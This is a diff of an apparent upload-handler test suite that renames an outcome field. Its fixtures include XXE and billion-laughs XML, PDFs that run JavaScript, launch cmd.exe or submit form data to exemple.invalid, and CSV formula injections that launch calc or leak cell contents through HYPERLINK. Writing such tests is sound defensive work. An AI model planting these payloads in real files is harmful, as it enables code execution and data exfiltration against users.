@@ -75,7 +75,7 @@ const xml = sending("xml that unfolds or reads along", [
       name: "contrat.docx",
       bytes: () => getZip(wordEntries({ body: `<?xml version="1.0"?>${reading}<w>&a;</w>` })),
     },
-    { kept: word, as: "contrat.docx" },
+    { storedType: word, as: "contrat.docx" },
   ],
   [
     "a contract of a billion laughs",
@@ -83,7 +83,7 @@ const xml = sending("xml that unfolds or reads along", [
       name: "contrat.docx",
       bytes: () => getZip(wordEntries({ body: `<?xml version="1.0"?>${laughs}<w>&c;</w>` })),
     },
-    { kept: word, as: "contrat.docx" },
+    { storedType: word, as: "contrat.docx" },
   ],
   [
     "a list of parts that hides its type",
@@ -92,7 +92,7 @@ const xml = sending("xml that unfolds or reads along", [
   ],
 ]);
 
-const kept: Outcome = { kept: "application/pdf", as: "devis.pdf" };
+const stored: Outcome = { storedType: "application/pdf", as: "devis.pdf" };
 
 const acting = sending("a pdf that acts", [
   [
@@ -101,7 +101,7 @@ const acting = sending("a pdf that acts", [
       name: "devis.pdf",
       bytes: () => pdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /JavaScript /JS (app.alert(1)) >>"] }),
     },
-    kept,
+    stored,
   ],
   [
     "it starts a program",
@@ -109,7 +109,7 @@ const acting = sending("a pdf that acts", [
       name: "devis.pdf",
       bytes: () => pdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /Launch /F (cmd.exe) >>"] }),
     },
-    kept,
+    stored,
   ],
   [
     "it sends what is typed elsewhere",
@@ -118,7 +118,7 @@ const acting = sending("a pdf that acts", [
       bytes: () =>
         pdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /SubmitForm /F (http://exemple.invalid) >>"] }),
     },
-    kept,
+    stored,
   ],
   [
     "it carries a program",
@@ -133,7 +133,7 @@ const acting = sending("a pdf that acts", [
           ],
         }),
     },
-    kept,
+    stored,
   ],
 ]);
 
@@ -141,22 +141,22 @@ const formulas = sending("sheets that calculate more than sums", [
   [
     "a command",
     { name: "invites.csv", bytes: "Nom\r\n=cmd|' /C calc'!A0\r\n" },
-    { kept: "text/csv", as: "invites.csv" },
+    { storedType: "text/csv", as: "invites.csv" },
   ],
   [
     "a link that tells",
     { name: "invites.csv", bytes: '=HYPERLINK("http://exemple.invalid?"&A1,"Zoé")' },
-    { kept: "text/csv", as: "invites.csv" },
+    { storedType: "text/csv", as: "invites.csv" },
   ],
   [
     "one behind a tab",
     { name: "invites.tsv", bytes: "\t@SUM(1+9)*cmd|' /C calc'!A0" },
-    { kept: "text/csv", as: "invites.tsv" },
+    { storedType: "text/csv", as: "invites.tsv" },
   ],
   [
     "one in UTF-16",
     { name: "invites.csv", bytes: Buffer.from("\u{feff}=1+1\r\n", "utf16le") },
-    { kept: "text/csv", as: "invites.csv" },
+    { storedType: "text/csv", as: "invites.csv" },
   ],
 ]);
 
